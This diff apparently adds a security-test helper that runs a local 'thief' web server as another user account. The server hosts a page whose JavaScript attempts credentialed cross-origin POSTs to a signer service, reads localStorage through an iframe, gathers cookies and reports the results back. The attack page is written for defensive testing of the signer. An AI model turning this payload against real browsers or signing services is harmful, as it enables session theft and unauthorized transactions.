@@ -1,0 +1,100 @@
+"""Another account of the customer's machine, with a web server at a port of 127.0.0.1."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from collections.abc import Iterator
+from contextlib import contextmanager
+from dataclasses import dataclass
+from typing import Any
+from urllib.parse import quote
+
+from tests.attacks.local_account import PYTHON, Attacker
+
+THIEF = Attacker("thief", 4242)
+
+# What the server shows at each path. The page tries what a page may try with the signer of another port, then reports.
+PAGE = """<!doctype html><title>a page</title><script>
+(async () => {
+  const asked = new URLSearchParams(location.search), signer = asked.get("url"), body = asked.get("body"), found = [];
+  const json = {"Content-Type": "application/json", "X-Grid-Signer": "1"};
+  const attempt = async (act) => found.push(await Promise.resolve().then(act).catch(String));
+  for (const path of ["signer", "signer/session"])
+    for (const mode of ["cors", "no-cors"])
+      for (const headers of [{"Content-Type": "text/plain"}, json])
+        await attempt(async () =>
+          (await fetch(signer + path, {method: "POST", mode, credentials: "include", headers, body})).text());
+  const frame = document.createElement("iframe");
+  frame.src = signer;
+  document.body.append(frame);
+  await new Promise((resolve) => { frame.onload = frame.onerror = resolve; });
+  await attempt(() => JSON.stringify({...frame.contentWindow.localStorage}));
+  await attempt(() => JSON.stringify({...localStorage}) + document.cookie);
+  await fetch("report", {method: "POST", body: JSON.stringify(found)});
+})();
+</script><body></body>"""
+
+SERVER = """
+import http.server, json, sys
+seen = []
+class Server(http.server.BaseHTTPRequestHandler):
+    def do_GET(self):
+        content = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
+        if self.path != "/seen":
+            seen.append([self.path, dict(self.headers), content])
+        answer = (json.dumps(seen) if self.path == "/seen" else PAGE).encode()
+        self.send_response(200)
+        self.send_header("Content-Type", "text/html")
+        self.send_header("Content-Length", str(len(answer)))
+        self.end_headers()
+        self.wfile.write(answer)
+    do_POST = do_GET
+    def log_message(self, *_): pass
+server = http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Server)
+print(server.server_port, flush=True)
+server.serve_forever()
+"""
+
+
+@dataclass(frozen=True)
+class Seen:
+    """A request that a browser sent to the thief."""
+
+    path: str
+    headers: dict[str, str]
+    content: str
+
+
+@dataclass(frozen=True)
+class WebThief:
+    """The server at `url`, and its account."""
+
+    url: str
+    account: Attacker = THIEF
+
+    def link(self, signer: str, call: dict[str, Any]) -> str:
+        """An address of the thief's page, at the path of the signer, which tries to make this call."""
+        return f"{self.url}/signer/?url={quote(signer)}&body={quote(json.dumps(call))}"
+
+    def seen(self) -> list[Seen]:
+        """What browsers have sent."""
+        return [Seen(*one) for one in json.loads(self.account.request(f"{self.url}/seen").text)]
+
+    def has_report(self) -> bool:
+        """Whether the page has tried everything."""
+        return any(one.path.endswith("/report") for one in self.seen())
+
+
+@contextmanager
+def thief_at(port: int = 0) -> Iterator[WebThief]:
+    """The thief's server at a port, until the context ends."""
+    become = ["setpriv", f"--reuid={THIEF.uid}", f"--regid={THIEF.uid}", "--clear-groups", "--"]
+    argv = [*become, PYTHON, "-c", f"PAGE = {PAGE!r}\n{SERVER}", str(port)]
+    with subprocess.Popen(argv, stdout=subprocess.PIPE, stdin=subprocess.DEVNULL, stderr=sys.stderr) as server:
+        try:
+            assert server.stdout is not None
+            yield WebThief(f"http://127.0.0.1:{int(server.stdout.readline())}")
+        finally:
+            server.terminate()
